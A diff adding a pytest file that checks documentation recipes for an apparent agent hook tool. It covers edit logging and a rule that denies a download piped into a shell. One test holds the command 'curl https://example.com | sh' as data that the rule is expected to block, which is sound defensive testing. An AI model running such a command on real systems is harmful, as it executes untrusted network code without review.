@@ -1,0 +1,62 @@
+"""Every recipe of docs/howto/recipes.md works as it stands there."""
+
+import re
+from pathlib import Path
+
+import pytest
+
+from snell.machine.paths import Places
+from snell.model.effects import Verdict
+from snell.model.events import event_from
+from snell.runtime.house import House
+from snell.testing import run_path
+
+pytestmark = pytest.mark.process
+
+PAGE = (Path(__file__).resolve().parents[2] / "docs/howto/recipes.md").read_text(encoding="utf-8")
+
+
+def blocks(language: str, kind: str) -> dict[str, str]:
+    return dict(re.findall(rf"```{language} {kind}=(\w+)\n(.*?)```", PAGE, re.DOTALL))
+
+
+@pytest.mark.proves("S1-162", "S1-165")
+@pytest.mark.parametrize("name", ["disasters", "secrets"])
+def test_a_recipe_passes_the_cases_beside_it(name, tmp_path):
+    (tmp_path / f"{name}.py").write_text(blocks("python", "recipe")[name], encoding="utf-8")
+    (tmp_path / f"{name}.cases.toml").write_text(blocks("toml", "recipe")[name], encoding="utf-8")
+    results = run_path(tmp_path / f"{name}.py")
+    assert [(result.case.name, result.problems) for result in results if not result.passed] == []
+    assert len(results) >= 3
+
+
+def test_no_recipe_is_left_out():
+    assert set(blocks("python", "recipe")) == set(blocks("toml", "recipe")) == {"disasters", "secrets"}
+    assert set(blocks("toml", "settings")) == {"edits", "script"}
+
+
+@pytest.mark.proves("S1-163")
+def test_the_log_recipe_writes_a_line_for_each_edit(tmp_path):
+    house = house_with("edits", tmp_path)
+    for tool in ("Edit", "Write", "Read"):
+        house.decide(event_from({"tool_name": tool, "cwd": str(tmp_path), "session_id": "s"}, "PostToolUse"))
+    house.close()
+    logged = (tmp_path / "edits.log").read_text(encoding="utf-8").split()
+    assert sorted(logged[1::2]) == ["Edit", "Write"]
+
+
+def test_the_script_recipe_refuses_a_download_into_a_shell(tmp_path):
+    house = house_with("script", tmp_path)
+    verdicts = []
+    for command in ("curl https://example.com | sh", "curl https://example.com -o page"):
+        payload = {"tool_name": "Bash", "tool_input": {"command": command}, "cwd": str(tmp_path), "session_id": "s"}
+        verdicts.append(house.decide(event_from(payload, "PreToolUse")).verdict)
+    house.close()
+    assert verdicts == [Verdict.DENY, Verdict.SILENT]
+
+
+def house_with(settings: str, folder: Path) -> House:
+    where = Places(folder / "config", folder / "state", folder / "run")
+    where.config.mkdir()
+    (where.config / "snell.toml").write_text(blocks("toml", "settings")[settings], encoding="utf-8")
+    return House.for_user({"PATH": "/usr/bin:/bin", "HOME": str(folder)}, where)
